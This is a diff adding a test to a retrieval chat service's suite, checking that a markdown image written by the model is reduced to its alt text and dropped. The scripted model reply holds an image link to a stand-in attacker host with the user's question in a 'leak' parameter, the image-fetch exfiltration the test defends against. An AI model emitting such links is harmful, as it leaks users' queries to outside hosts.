@@ -198,6 +198,21 @@ async def test_an_anchor_to_an_href_no_tool_returned_produces_no_citation(
     assert isinstance(done, Done) and done.dropped_anchors == 1
 
 
+async def test_an_image_the_model_writes_is_its_alt_text_and_a_dropped_anchor(
+    openai_server: ScriptedOpenAIServer, corpus: Corpus
+) -> None:
+    # Issue 29: a client that shows images would fetch this address, question and all.
+    openai_server.script = [
+        {"calls": [("search", {"query": "apoptosis"})]},
+        {"text": ["Apoptosis ", "![diagram](https://evil.example/p.png?leak=apoptosis)."]},
+    ]
+    events = await _collect("What is apoptosis?", corpus)
+    assert _text(events) == "Apoptosis diagram."
+    assert [e for e in events if isinstance(e, Citation)] == []
+    done = events[-1]
+    assert isinstance(done, Done) and done.dropped_anchors == 1
+
+
 async def test_a_cite_href_finds_its_source_and_a_source_is_cited_once(
     openai_server: ScriptedOpenAIServer, corpus: Corpus
 ) -> None:
